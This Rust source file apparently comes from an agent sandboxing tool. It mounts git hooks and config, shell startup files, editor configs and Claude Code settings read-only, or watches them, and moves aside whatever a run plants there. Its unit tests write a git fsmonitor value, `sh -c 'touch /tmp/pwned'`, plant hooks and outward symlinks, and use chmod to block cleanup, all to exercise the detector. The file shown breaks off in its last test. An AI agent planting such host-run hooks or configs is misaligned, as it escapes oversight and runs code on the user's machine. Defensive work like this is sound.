//! Paths in the workspace that a run may not change: the places where something the agent
//! writes would run later on the user's own machine (git hooks and config, shell startup
//! files, editor tasks, Claude Code's project commands) and the workspace's moat file.
//!
//! Each protected path that exists is mounted read-only over itself, and every directory
//! above it is mounted over itself too, so it cannot be renamed or replaced from inside
//! (a mount point cannot be). A protected path that does not exist cannot be protected
//! without creating it in the user's workspace; it is *watched* instead: when the run
//! ends, whatever the run put there is moved into the run's directory (nothing is lost)
//! and recorded, and `moat accept` puts it back if the user wants it.

use std::io;
use std::path::{Component, Path, PathBuf};

use moat_container::BindMount;
use moat_image::WORKSPACE_DIR;
use serde::{Deserialize, Serialize};

/// What moat protects in every workspace. A workspace or global `protect:` list adds to
/// it; nothing removes from it.
pub const DEFAULT_PROTECTED: &[&str] = &[
    // git runs these on the user's next commit, checkout or status.
    ".git/hooks",
    ".git/config",
    // Redirects git to another directory's config and hooks; a worktree's own config.
    ".git/commondir",
    ".git/config.worktree",
    ".gitconfig",
    ".gitmodules",
    // Shell startup files, when the workspace is a home directory.
    ".bashrc",
    ".bash_profile",
    ".zshrc",
    ".zprofile",
    ".profile",
    ".ripgreprc",
    // Editors and agents on the host run what these say.
    ".mcp.json",
    ".vscode",
    ".idea",
    ".claude/commands",
    ".claude/agents",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/hooks",
];
// Hook managers' files (`.husky`, `.pre-commit-config.yaml`, `lefthook.yml`) and
// `.devcontainer` (whose `initializeCommand` runs on the host) also run on the user's
// machine, but they are tracked files that ordinary work changes (a `git pull`, a
// formatter): mounted read-only, that work would fail half-way. docs/security.md names
// them for `protect:`.

/// In a repository's git directory, what git runs or follows: its configuration (hooks,
/// `core.fsmonitor`, filters, aliases), its hooks, and the files that send git elsewhere.
/// A nested repository's or a submodule's are not mounted read-only (there is one per
/// repository, wherever the agent makes one); they are checked when the run ends.
const GIT_DIR_CONTROLS: &[&str] = &["config", "config.worktree", "commondir", "hooks"];

/// At most this many workspace entries are looked at for nested repositories.
const NESTED_SCAN_LIMIT: usize = 2_000_000;

/// How one run protects its workspace: what is mounted, and what is checked at the end.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Protection {
    /// Existing paths mounted read-only over themselves.
    pub read_only: Vec<String>,
    /// Directories above protected paths, mounted read-write over themselves so that they
    /// cannot be renamed or replaced.
    pub anchored: Vec<String>,
    /// Paths that could not be mounted, checked when the run ends.
    pub watched: Vec<Watched>,
}

/// A protected path that is checked when the run ends.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Watched {
    /// The protected path, relative to the workspace.
    pub path: String,
    /// What was there when the run started.
    pub before: Before,
}

/// What a watched path looked like when the run started.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Before {
    /// Nothing: neither the path nor (from `depth` parts on) its parents.
    Missing { depth: usize },
    /// A symbolic link, `depth` parts down the path (the link itself or a parent), to
    /// `target`. Links are never followed.
    Symlink { depth: usize, target: PathBuf },
}

/// Something a run put where a watched path is, and where moat keeps it now.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HeldBack {
    /// Relative to the workspace.
    pub path: String,
    /// Where it is kept (in the run's directory).
    pub kept_at: PathBuf,
    /// `created`, or `replaced a symbolic link` (which was put back).
    pub change: String,
}

/// Plan the protection of `workspace` (absolute, resolved) for `paths` (relative, checked
/// by the configuration) and `config_files` (the workspace's moat file, which is made
/// read-only when it exists but is never watched: a new one needs the user's trust
/// anyway).
pub fn plan(workspace: &Path, paths: &[String], config_files: &[&str]) -> io::Result<Protection> {
    let mut protection = Protection::default();
    for path in config_files {
        let meta = workspace.join(path).symlink_metadata();
        if meta.is_ok_and(|m| m.file_type().is_file()) {
            push_unique(&mut protection.read_only, path);
        }
    }
    for path in paths {
        // The configuration refuses anything else; a path that could leave the workspace
        // is never joined to it.
        if !is_plain_relative(path) {
            continue;
        }
        let parts = parts(path);
        let mut at = workspace.to_owned();
        let mut watched = None;
        for (i, part) in parts.iter().enumerate() {
            at.push(part);
            let meta = match at.symlink_metadata() {
                Ok(meta) => meta,
                Err(e) if e.kind() == io::ErrorKind::NotFound => {
                    watched = Some(Before::Missing { depth: i + 1 });
                    break;
                }
                Err(e) => return Err(e),
            };
            let joined = parts[..=i].join("/");
            let last = i + 1 == parts.len();
            if meta.file_type().is_symlink() {
                watched = Some(Before::Symlink {
                    depth: i + 1,
                    target: fs_err::read_link(&at)?,
                });
                break;
            } else if meta.is_dir() && !last {
                push_unique(&mut protection.anchored, &joined);
            } else {
                // The path itself, or a file where a parent directory would be (a git
                // worktree's `.git` file): either way, read-only.
                push_unique(&mut protection.read_only, &joined);
                break;
            }
        }
        if let Some(before) = watched {
            protection.watched.push(Watched {
                path: path.clone(),
                before,
            });
        }
    }
    // A read-only path needs no anchor of its own.
    let read_only = protection.read_only.clone();
    protection.anchored.retain(|a| !read_only.contains(a));
    Ok(protection)
}

impl Protection {
    /// The bind mounts that carry this out, on top of the workspace mount.
    pub fn mounts(&self, workspace: &Path) -> Vec<BindMount> {
        let mount = |path: &String, read_only| BindMount {
            source: workspace.join(path).display().to_string(),
            target: format!("{WORKSPACE_DIR}/{path}"),
            read_only,
        };
        self.anchored
            .iter()
            .map(|p| mount(p, false))
            .chain(self.read_only.iter().map(|p| mount(p, true)))
            .collect()
    }
}

/// The watched paths a run changed, with what to hold back: the path where the change
/// starts (the protected path itself, or a parent the run made a link or a file).
pub fn changes(workspace: &Path, watched: &[Watched]) -> Vec<(String, Change)> {
    let mut out = Vec::new();
    for w in watched {
        let parts = parts(&w.path);
        let now = state(workspace, &parts);
        let change = match (&w.before, now) {
            (Before::Missing { .. }, Now::Missing) => None,
            (Before::Missing { .. }, Now::Exists { depth }) => {
                let path = parts[..depth].join("/");
                (!harmless(workspace, &path)).then_some((path, Change::Created))
            }
            (Before::Symlink { depth, target }, now) => {
                let path = parts[..*depth].join("/");
                let link = workspace.join(&path);
                let same = fs_err::read_link(&link).is_ok_and(|t| &t == target);
                match now {
                    _ if same => None,
                    Now::Missing if link.symlink_metadata().is_err() => Some((
                        path,
                        Change::RemovedLink {
                            target: target.clone(),
                        },
                    )),
                    _ => Some((
                        path,
                        Change::ReplacedLink {
                            target: target.clone(),
                        },
                    )),
                }
            }
        };
        if let Some((path, change)) = change
            && !out.iter().any(|(p, _): &(String, Change)| p == &path)
        {
            out.push((path, change));
        }
    }
    out
}

/// What the run wrote, between `since` (the run's start) and `until` (its end, when known),
/// into the controls of a repository other than the workspace's own: a nested
/// repository's `.git` (a directory, a git file or a link), and the git directories of
/// the workspace's submodules and linked worktrees (`.git/modules/**`, `.git/worktrees/*`).
/// The user's own `git status` at the top of the workspace runs `git status` in every
/// submodule, under that repository's configuration, so a `core.fsmonitor` the agent put
/// there would run on the host. A change is known by its inode change time, which nothing
/// inside the container can set back. Links are never followed: a link where a control or
/// a git directory is, made during the run, is itself the change. Paths are relative.
pub fn nested_git_changes(
    workspace: &Path,
    since: std::time::SystemTime,
    until: Option<std::time::SystemTime>,
) -> Vec<PathBuf> {
    let mut scan = NestedScan {
        workspace,
        since,
        until,
        found: std::collections::BTreeSet::new(),
        visited: std::collections::HashSet::new(),
        seen: 0,
    };
    scan.walk();
    scan.found.into_iter().collect()
}

struct NestedScan<'a> {
    workspace: &'a Path,
    since: std::time::SystemTime,
    until: Option<std::time::SystemTime>,
    found: std::collections::BTreeSet<PathBuf>,
    /// Git directories looked at (a git file can name one twice, or a loop).
    visited: std::collections::HashSet<PathBuf>,
    seen: usize,
}

impl NestedScan<'_> {
    fn changed(&self, path: &Path) -> bool {
        use std::os::unix::fs::MetadataExt as _;
        path.symlink_metadata().is_ok_and(|m| {
            let ctime = std::time::UNIX_EPOCH
                + std::time::Duration::new(
                    u64::try_from(m.ctime()).unwrap_or(0),
                    u32::try_from(m.ctime_nsec()).unwrap_or(0),
                );
            ctime >= self.since && self.until.is_none_or(|until| ctime <= until)
        })
    }

    fn flag(&mut self, path: &Path) {
        let relative = path.strip_prefix(self.workspace).unwrap_or(path).to_owned();
        self.found.insert(relative);
    }

    /// Entries of a real directory (never through a link), bounded in number overall.
    fn entries(&mut self, dir: &Path) -> Vec<(PathBuf, std::fs::FileType)> {
        if !dir.symlink_metadata().is_ok_and(|m| m.is_dir()) {
            return Vec::new();
        }
        // The run may have taken the owner's read permission away (`chmod 311 sub`): git
        // still opens `sub/.git/config` by name. It is given back.
        let listed = fs_err::read_dir(dir).or_else(|_| {
            owner_may_change(dir);
            fs_err::read_dir(dir)
        });
        let Ok(entries) = listed else {
            tracing::warn!(path = %dir.display(), "cannot list a workspace directory; repositories in it were not checked");
            return Vec::new();
        };
        let mut out = Vec::new();
        for entry in entries.flatten() {
            self.seen += 1;
            if self.seen > NESTED_SCAN_LIMIT {
                return out;
            }
            if let Ok(kind) = entry.file_type() {
                out.push((entry.path(), kind));
            }
        }
        out
    }

    fn walk(&mut self) {
        // The workspace's own repository first, whatever the workspace holds besides (the
        // bound on entries is for the walk below).
        let top = self.workspace.join(".git");
        match top.symlink_metadata() {
            Ok(meta) if meta.is_dir() => self.git_dir(&top, true),
            Ok(meta) if meta.is_file() => self.git_file(&top),
            _ => {}
        }
        self.seen = 0;
        let mut stack = vec![self.workspace.to_owned()];
        while let Some(dir) = stack.pop() {
            if self.seen > NESTED_SCAN_LIMIT {
                tracing::warn!(
                    "the workspace has more than {NESTED_SCAN_LIMIT} entries; nested repositories past them were not checked"
                );
                return;
            }
            let top = dir == self.workspace;
            for (path, kind) in self.entries(&dir) {
                if path.file_name().is_some_and(|n| n == ".git") {
                    if top {
                        // Looked at above.
                    } else if kind.is_dir() {
                        self.git_dir(&path, false);
                    } else if self.changed(&path) {
                        // A git file or a link sends git to another directory's config.
                        self.flag(&path);
                    } else if kind.is_file() {
                        self.git_file(&path);
                    }
                } else if kind.is_dir() {
                    stack.push(path);
                }
            }
        }
    }

    /// The git directory a git file names (`gitdir: PATH`), looked at when it is in the
    /// workspace and a directory there (not a link): a bare repository beside the work
    /// tree (`gitdir: ./.bare`), or one a tool keeps elsewhere in the tree. Its controls
    /// are no one's mounts.
    fn git_file(&mut self, file: &Path) {
        if let Some(target) = git_file_target(self.workspace, file) {
            self.git_dir(&self.workspace.join(target), false);
        }
    }

    /// A git directory's controls (not the workspace's own: those are mounted read-only
    /// or watched), and the git directories it holds for submodules and worktrees.
    fn git_dir(&mut self, dir: &Path, top: bool) {
        if !self.visited.insert(dir.to_owned()) {
            return;
        }
        if !top {
            for control in GIT_DIR_CONTROLS {
                let path = dir.join(control);
                let Ok(meta) = path.symlink_metadata() else {
                    continue;
                };
                let hooks_dir = *control == "hooks" && meta.is_dir();
                let written = if hooks_dir {
                    !only_sample_hooks(&path)
                        && (self.changed(&path)
                            || self.entries(&path).iter().any(|(p, _)| self.changed(p)))
                } else {
                    self.changed(&path)
                };
                if written {
                    self.flag(&path);
                }
            }
        }
        let worktrees = dir.join("worktrees");
        self.holder(&worktrees, 0, false);
        let modules = dir.join("modules");
        self.holder(&modules, 0, true);
    }

    /// `modules` or `worktrees`: each directory below is a git directory (a submodule's,
    /// named by its path, so `third_party/lib` is two levels down: one with a `HEAD`), a
    /// link made during the run is a change.
    fn holder(&mut self, dir: &Path, depth: usize, modules: bool) {
        if self.changed(dir)
            && dir
                .symlink_metadata()
                .is_ok_and(|m| m.file_type().is_symlink())
        {
            self.flag(dir);
            return;
        }
        for (path, kind) in self.entries(dir) {
            if kind.is_symlink() {
                if self.changed(&path) {
                    self.flag(&path);
                }
            } else if kind.is_dir() {
                if !modules || path.join("HEAD").symlink_metadata().is_ok() {
                    self.git_dir(&path, false);
                } else if depth < 32 {
                    self.holder(&path, depth + 1, true);
                }
            }
        }
    }
}

/// How a watched path changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Change {
    Created,
    /// A nested repository's control, written during the run; `raw` is its path as it is
    /// (the shown one may have lost bytes that are not UTF-8).
    ChangedNested {
        raw: PathBuf,
    },
    ReplacedLink {
        target: PathBuf,
    },
    RemovedLink {
        target: PathBuf,
    },
}

/// Move each change out of `workspace` into `held_dir` (keeping its relative path) and put
/// back links that were replaced. Best effort per path: one that cannot be moved is
/// reported in the result with its error.
pub fn hold_back(
    workspace: &Path,
    held_dir: &Path,
    changes: &[(String, Change)],
) -> Vec<Result<HeldBack, (String, io::Error)>> {
    changes
        .iter()
        .map(|(path, change)| {
            let relative = match change {
                Change::ChangedNested { raw } => raw.as_path(),
                _ => Path::new(path),
            };
            let source = workspace.join(relative);
            let kept_at = held_dir.join(relative);
            let result = (|| {
                // Nothing is moved through a link (what it points at is not the run's).
                if moat_home::linked_on_the_way(workspace, relative) {
                    return Err(io::Error::other("a symbolic link is on the way"));
                }
                if source.symlink_metadata().is_ok() {
                    if let Some(parent) = kept_at.parent() {
                        fs_err::create_dir_all(parent)?;
                    }
                    move_path(&source, &kept_at)?;
                } else if matches!(change, Change::ChangedNested { .. }) {
                    return Err(io::Error::new(io::ErrorKind::NotFound, "it is gone"));
                }
                match change {
                    Change::Created | Change::ChangedNested { .. } => {}
                    Change::ReplacedLink { target } | Change::RemovedLink { target } => {
                        std::os::unix::fs::symlink(target, &source)?;
                    }
                }
                Ok(HeldBack {
                    path: path.clone(),
                    kept_at: kept_at.clone(),
                    change: match change {
                        Change::Created => "created".to_owned(),
                        Change::ChangedNested { .. } => {
                            "written during the run, in a nested repository or submodule (git runs it)"
                                .to_owned()
                        }
                        Change::ReplacedLink { .. } => {
                            "replaced a symbolic link (the link was put back)".to_owned()
                        }
                        Change::RemovedLink { .. } => {
                            "removed a symbolic link (the link was put back)".to_owned()
                        }
                    },
                })
            })();
            result.map_err(|e| (path.clone(), e))
        })
        .collect()
}

/// Put a held-back path back into the workspace; refused when something is there now.
pub fn restore_held(workspace: &Path, held: &HeldBack) -> io::Result<()> {
    let target = workspace.join(&held.path);
    if target.symlink_metadata().is_ok() {
        return Err(io::Error::new(
            io::ErrorKind::AlreadyExists,
            format!("`{}` exists in the workspace", held.path),
        ));
    }
    if let Some(parent) = target.parent() {
        fs_err::create_dir_all(parent)?;
    }
    move_path(&held.kept_at, &target)
}

const PROTECTION_FILE: &str = "protection.json";
const HELD_DIR: &str = "held";

impl crate::RunStore {
    /// Record how run `id` protects its workspace, for the check at its end.
    pub(crate) fn save_protection(
        &self,
        id: &moat_home::RunId,
        protection: &Protection,
    ) -> Result<(), crate::RunError> {
        let path = self.run_dir(id).join(PROTECTION_FILE);
        let bytes = serde_json::to_vec_pretty(protection).expect("a protection plan serialises");
        moat_home::write_private_atomic(&path, &bytes).map_err(|e| crate::RunError::io(&path, e))
    }

    /// The run's end is recorded: the end-of-run check has nothing more to do.
    pub fn forget_protection(&self, id: &moat_home::RunId) {
        let _ = fs_err::remove_file(self.run_dir(id).join(PROTECTION_FILE));
    }

    /// Where run `id` keeps what it held back.
    pub fn held_dir(&self, id: &moat_home::RunId) -> PathBuf {
        self.run_dir(id).join(HELD_DIR)
    }

    /// The end-of-run check: move what the run put at watched paths out of the workspace
    /// and record it. Safe to repeat (what was moved is gone from the workspace); the
    /// plan is forgotten with [`RunStore::forget_protection`] once the run's end is
    /// recorded. A plan that
    /// cannot be read is reported, and the paths are checked against "nothing was there",
    /// the strictest reading.
    pub fn hold_back_changes(
        &self,
        record: &crate::RunRecord,
        until: Option<jiff::Timestamp>,
    ) -> Result<Vec<HeldBack>, crate::RunError> {
        let path = self.run_dir(&record.id).join(PROTECTION_FILE);
        let protection: Protection = match fs_err::read(&path) {
            Ok(bytes) => serde_json::from_slice(&bytes).unwrap_or_else(|e| {
                tracing::warn!(error = %e, "the protection plan is damaged; checking every default path");
                Protection {
                    watched: DEFAULT_PROTECTED
                        .iter()
                        .map(|p| Watched {
                            path: (*p).to_owned(),
                            before: Before::Missing { depth: 1 },
                        })
                        .collect(),
                    ..Protection::default()
                }
            }),
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            Err(e) => return Err(crate::RunError::io(&path, e)),
        };
        let mut found = changes(&record.workspace, &protection.watched);
        let since = std::time::SystemTime::from(record.created_at);
        let watched: std::collections::HashSet<String> =
            found.iter().map(|(p, _)| p.clone()).collect();
        for raw in nested_git_changes(&record.workspace, since, until.map(Into::into)) {
            let path = raw.to_string_lossy().into_owned();
            if !watched.contains(&path) {
                found.push((path, Change::ChangedNested { raw }));
            }
        }
        let mut held = Vec::new();
        for result in hold_back(&record.workspace, &self.held_dir(&record.id), &found) {
            match result {
                Ok(h) => held.push(h),
                Err((path, e)) => {
                    tracing::warn!(%path, error = %e, "cannot move a protected path aside");
                }
            }
        }
        if !held.is_empty() {
            let kept = held.clone();
            self.update(&record.id, |r| r.held_back.extend(kept.iter().cloned()))?;
        }
        Ok(held)
    }
}

/// What is at a protected path now, never following links.
enum Now {
    Missing,
    /// Something other than a directory on the way (`depth` parts down), or the path itself.
    Exists {
        depth: usize,
    },
}

fn state(workspace: &Path, parts: &[&str]) -> Now {
    let mut at = workspace.to_owned();
    for (i, part) in parts.iter().enumerate() {
        at.push(part);
        match at.symlink_metadata() {
            Err(_) => return Now::Missing,
            Ok(meta) if meta.is_dir() && i + 1 < parts.len() => {}
            Ok(_) => return Now::Exists { depth: i + 1 },
        }
    }
    Now::Missing
}

/// Changes that cannot do harm: the sample hooks `git init` writes are never run.
fn harmless(workspace: &Path, path: &str) -> bool {
    path == ".git/hooks" && only_sample_hooks(&workspace.join(path))
}

/// `dir` is a directory of git's `*.sample` hooks only (which git never runs).
fn only_sample_hooks(dir: &Path) -> bool {
    if !dir.symlink_metadata().is_ok_and(|m| m.is_dir()) {
        return false;
    }
    fs_err::read_dir(dir).is_ok_and(|entries| {
        entries.flatten().all(|e| {
            e.file_type().is_ok_and(|t| t.is_file())
                && e.file_name().to_string_lossy().ends_with(".sample")
        })
    })
}

fn parts(path: &str) -> Vec<&str> {
    path.split('/').filter(|p| !p.is_empty()).collect()
}

fn push_unique(list: &mut Vec<String>, path: &str) {
    if !list.iter().any(|p| p == path) {
        list.push(path.to_owned());
    }
}

/// A git file (`.git` as a file: `gitdir: PATH`) is read at most this far.
const GIT_FILE: moat_home::FileKind = moat_home::FileKind::new("git file", 4096, false);

/// The git directory git file `file` names, relative to `workspace`, when it is a
/// directory in the workspace reached without a link.
fn git_file_target(workspace: &Path, file: &Path) -> Option<PathBuf> {
    let text = moat_home::read_bounded(file, GIT_FILE).ok()?;
    let target = String::from_utf8_lossy(&text)
        .lines()
        .find_map(|line| line.strip_prefix("gitdir:").map(|t| t.trim().to_owned()))?;
    let base = file.parent().unwrap_or(workspace);
    let target = moat_home::lexically_normal(&base.join(target));
    let relative = target.strip_prefix(workspace).ok()?.to_owned();
    (!relative.as_os_str().is_empty()
        && !moat_home::linked_on_the_way(workspace, &relative)
        && target.symlink_metadata().is_ok_and(|m| m.is_dir()))
    .then_some(relative)
}

/// The controls of the workspace's own git directory when its `.git` is a git file naming
/// a directory inside the workspace (`gitdir: ./.bare`): protected like `.git/config` and
/// `.git/hooks` are, since that is where git reads them.
pub fn git_file_controls(workspace: &Path) -> Vec<String> {
    let file = workspace.join(".git");
    if !file.symlink_metadata().is_ok_and(|m| m.is_file()) {
        return Vec::new();
    }
    let Some(target) = git_file_target(workspace, &file) else {
        return Vec::new();
    };
    let Some(target) = target.to_str() else {
        return Vec::new();
    };
    GIT_DIR_CONTROLS
        .iter()
        .map(|control| format!("{target}/{control}"))
        .collect()
}

/// Rename, or copy and remove where the two are on different file systems. The run may
/// have taken the owner's permissions away (`chmod 555 .vscode`, a file of mode 000) so
/// that the move fails and what it planted stays: the owner's are given back first (the
/// host user owns what the run made).
fn move_path(from: &Path, to: &Path) -> io::Result<()> {
    let moved = move_once(from, to);
    match moved {
        Err(e) if matches!(e.kind(), io::ErrorKind::PermissionDenied) => {
            if let Some(parent) = from.parent() {
                owner_may_change(parent);
            }
            owner_may_change_tree(from);
            move_once(from, to)
        }
        other => other,
    }
}

fn move_once(from: &Path, to: &Path) -> io::Result<()> {
    match fs_err::rename(from, to) {
        Ok(()) => Ok(()),
        Err(e) if e.raw_os_error() == Some(nix::libc::EXDEV) => {
            // A copy that stopped half-way is taken away again before a second try.
            copy_tree(from, to).inspect_err(|_| {
                let _ = remove_tree(to);
            })?;
            remove_tree(from)
        }
        Err(e) => Err(e),
    }
}

/// Give the owner read and write (and, on a directory, search) on `path`, never through a
/// link. Best effort: the move that follows reports what is still refused.
fn owner_may_change(path: &Path) {
    use std::os::unix::fs::PermissionsExt as _;
    let Ok(meta) = path.symlink_metadata() else {
        return;
    };
    let wanted = if meta.is_dir() {
        0o700
    } else if meta.is_file() {
        0o600
    } else {
        return;
    };
    let mode = meta.permissions().mode();
    if mode & wanted != wanted {
        let _ = fs_err::set_permissions(path, std::fs::Permissions::from_mode(mode | wanted));
    }
}

/// [`owner_may_change`] on `path` and everything under it (a loop, not recursion: the run
/// chooses how deep the tree is).
fn owner_may_change_tree(path: &Path) {
    let mut stack = vec![path.to_owned()];
    while let Some(at) = stack.pop() {
        owner_may_change(&at);
        if at.symlink_metadata().is_ok_and(|m| m.is_dir())
            && let Ok(entries) = fs_err::read_dir(&at)
        {
            stack.extend(entries.flatten().map(|e| e.path()));
        }
    }
}

fn copy_tree(from: &Path, to: &Path) -> io::Result<()> {
    let meta = from.symlink_metadata()?;
    if meta.file_type().is_symlink() {
        std::os::unix::fs::symlink(fs_err::read_link(from)?, to)
    } else if meta.is_dir() {
        fs_err::create_dir(to)?;
        for entry in fs_err::read_dir(from)? {
            let entry = entry?;
            copy_tree(&entry.path(), &to.join(entry.file_name()))?;
        }
        fs_err::set_permissions(to, meta.permissions())
    } else if meta.is_file() {
        fs_err::copy(from, to).map(|_| ())
    } else {
        // A FIFO, a socket or a device the run made: opening one to copy it could block
        // the end of the run forever, and it holds nothing to keep.
        tracing::debug!(path = %from.display(), "not a file: left out of what is held back");
        Ok(())
    }
}

fn remove_tree(path: &Path) -> io::Result<()> {
    if path.symlink_metadata()?.is_dir() {
        fs_err::remove_dir_all(path)
    } else {
        fs_err::remove_file(path)
    }
}

/// Whether `path` is a plain relative path (what `protect:` entries are).
fn is_plain_relative(path: &str) -> bool {
    !path.is_empty()
        && Path::new(path)
            .components()
            .all(|c| matches!(c, Component::Normal(_)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn defaults() -> Vec<String> {
        DEFAULT_PROTECTED.iter().map(|p| (*p).to_owned()).collect()
    }

    #[test]
    fn existing_paths_are_read_only_and_their_parents_anchored() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path();
        fs_err::create_dir_all(ws.join(".git/hooks")).unwrap();
        fs_err::write(ws.join(".git/config"), "[core]\n").unwrap();
        fs_err::create_dir(ws.join(".vscode")).unwrap();
        fs_err::write(ws.join("moat.yaml"), "{}\n").unwrap();
        let p = plan(ws, &defaults(), &["moat.yaml", "agent.yaml"]).unwrap();
        assert_eq!(
            p.read_only,
            ["moat.yaml", ".git/hooks", ".git/config", ".vscode"]
        );
        assert_eq!(p.anchored, [".git"]);
        let watched: Vec<&str> = p.watched.iter().map(|w| w.path.as_str()).collect();
        assert!(watched.contains(&".git/commondir"), "{watched:?}");
        assert!(watched.contains(&".claude/commands"), "{watched:?}");
        assert!(!watched.contains(&".vscode"), "{watched:?}");
        let mounts = p.mounts(ws);
        assert_eq!(mounts[0].target, "/workspace/.git");
        assert!(!mounts[0].read_only);
        assert!(mounts[1..].iter().all(|m| m.read_only));
    }

    #[test]
    fn a_git_file_is_read_only_in_place_of_its_hooks() {
        let ws = tempfile::tempdir().unwrap();
        fs_err::write(ws.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
        let p = plan(ws.path(), &defaults(), &[]).unwrap();
        assert_eq!(p.read_only, [".git"]);
    }

    /// The agent writes a `core.fsmonitor` into a nested repository, a submodule's git
    /// directory (one named by a path with a slash too) and a linked worktree's, makes a
    /// git file, plants a hook and links where git directories are: each is found; what
    /// was there before the run and a fresh repository's sample hooks are not, and no link
    /// is followed.
    #[test]
    fn nested_repositories_written_during_the_run_are_found() {
        let ws = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let ws = ws.path();
        for dir in [
            "old/.git/hooks",
            ".git/modules/lib/hooks",
            ".git/modules/third_party/googletest",
            ".git/worktrees/wt",
            "deep/er/sub/.git/hooks",
            "linked/.git/modules",
        ] {
            fs_err::create_dir_all(ws.join(dir)).unwrap();
        }
        fs_err::write(ws.join("old/.git/config"), "[core]\n").unwrap();
        fs_err::write(ws.join(".git/modules/lib/config"), "[core]\n").unwrap();
        fs_err::write(ws.join(".git/modules/lib/HEAD"), "x\n").unwrap();
        fs_err::write(ws.join(".git/modules/third_party/googletest/HEAD"), "x\n").unwrap();
        fs_err::write(
            ws.join(".git/modules/third_party/googletest/config"),
            "[core]\n",
        )
        .unwrap();
        fs_err::write(ws.join(".git/config"), "[core]\n").unwrap();
        fs_err::write(outside.path().join("config"), "[user]\n").unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        let since = std::time::SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert!(nested_git_changes(ws, since, None).is_empty());
        let fsmonitor = "[core]\n\tfsmonitor = sh -c 'touch /tmp/pwned'\n";
        fs_err::write(ws.join("deep/er/sub/.git/config"), fsmonitor).unwrap();
        fs_err::write(ws.join("deep/er/sub/.git/hooks/pre-commit.sample"), "").unwrap();
        fs_err::write(ws.join(".git/modules/lib/config"), fsmonitor).unwrap();
        fs_err::write(
            ws.join(".git/modules/third_party/googletest/config"),
            fsmonitor,
        )
        .unwrap();
        fs_err::write(ws.join(".git/worktrees/wt/commondir"), "/elsewhere\n").unwrap();
        fs_err::write(ws.join(".git/config"), fsmonitor).unwrap();
        fs_err::write(ws.join("old/.git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
        fs_err::create_dir(ws.join("other")).unwrap();
        fs_err::write(ws.join("other/.git"), "gitdir: /elsewhere\n").unwrap();
        // Links: a submodule's git directory, and `modules` itself, pointing out.
        std::os::unix::fs::symlink(outside.path(), ws.join(".git/modules/evil")).unwrap();
        fs_err::remove_dir(ws.join("linked/.git/modules")).unwrap();
        std::os::unix::fs::symlink(outside.path(), ws.join("linked/.git/modules")).unwrap();
        fs_err::write(outside.path().join("config"), "[user]\n\tname = changed\n").unwrap();
        let found: Vec<String> = nested_git_changes(ws, since, None)
            .iter()
            .map(|p| p.display().to_string())
            .collect();
        assert_eq!(
            found,
            [
                ".git/modules/evil",
                ".git/modules/lib/config",
                ".git/modules/third_party/googletest/config",
                ".git/worktrees/wt/commondir",
                "deep/er/sub/.git/config",
                "linked/.git/modules",
                "old/.git/hooks",
                "other/.git",
            ],
            "the workspace's own .git/config is the mounts' and the watch's"
        );
        let before = since - std::time::Duration::from_secs(60);
        assert!(
            nested_git_changes(ws, before, Some(before)).is_empty(),
            "nothing after the run's end counts"
        );
    }

    /// A git file naming a git directory elsewhere in the workspace (a bare repository
    /// beside the work tree, `gitdir: ./.bare`): that directory's controls are protected
    /// when it is the workspace's own and looked at when it is a nested one's; an
    /// unreadable directory is listed anyway.
    #[test]
    fn a_git_directory_named_by_a_git_file_is_checked() {
        use std::os::unix::fs::PermissionsExt as _;
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path();
        for dir in [
            ".bare/hooks",
            "tools/.sub-git/hooks",
            "tools/sub",
            "locked/inner/.git",
        ] {
            fs_err::create_dir_all(ws.join(dir)).unwrap();
        }
        fs_err::write(ws.join(".git"), "gitdir: ./.bare\n").unwrap();
        fs_err::write(ws.join("tools/sub/.git"), "gitdir: ../.sub-git\n").unwrap();
        assert_eq!(
            git_file_controls(ws),
            [
                ".bare/config",
                ".bare/config.worktree",
                ".bare/commondir",
                ".bare/hooks"
            ]
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
        let since = std::time::SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        fs_err::write(ws.join(".bare/config"), "[core]\n\tfsmonitor = x\n").unwrap();
        fs_err::write(
            ws.join("tools/.sub-git/config"),
            "[core]\n\tfsmonitor = x\n",
        )
        .unwrap();
        fs_err::write(ws.join("locked/inner/.git/config"), "[core]\n").unwrap();
        fs_err::set_permissions(ws.join("locked"), std::fs::Permissions::from_mode(0o311)).unwrap();
        let found: Vec<String> = nested_git_changes(ws, since, None)
            .iter()
            .map(|p| p.display().to_string())
            .collect();
        assert_eq!(
            found,
            [
                ".bare/config",
                "locked/inner/.git/config",
                "tools/.sub-git/config"
            ]
        );
        assert!(
            git_file_controls(&ws.join("tools")).is_empty(),
            "no git file there"
        );
    }

    /// The run takes the owner's permissions away so that the move fails and what it
    /// planted stays: they are given back, and it is moved.
    #[test]
    fn a_chmod_does_not_keep_a_change_in_the_workspace() {
        use std::os::unix::fs::PermissionsExt as _;
        let ws = tempfile::tempdir().unwrap();
        let held = tempfile::tempdir().unwrap();
        let ws = ws.path();
        fs_err::create_dir_all(ws.join("sub/.git")).unwrap();
        fs_err::write(ws.join("sub/.git/config"), "[core]\n").unwrap();
        fs_err::set_permissions(
            ws.join("sub/.git/config"),
            std::fs::Permissions::from_mode(0o0),
        )
        .unwrap();
        fs_err::set_permissions(ws.join("sub/.git"), std::fs::Permissions::from_mode(0o555))
            .unwrap();
        let change = (
            "sub/.git/config".to_owned(),
            Change::ChangedNested {
                raw: "sub/.git/config".into(),
            },
        );
        let results = hold_back(ws, held.path(), &[change]);
        assert!(results[0].is_ok(), "{results:?}");
        assert!(!ws.join("sub/.git/config").exists());
        assert!(held.path().join("sub/.git/config").exists());
        let gone = (
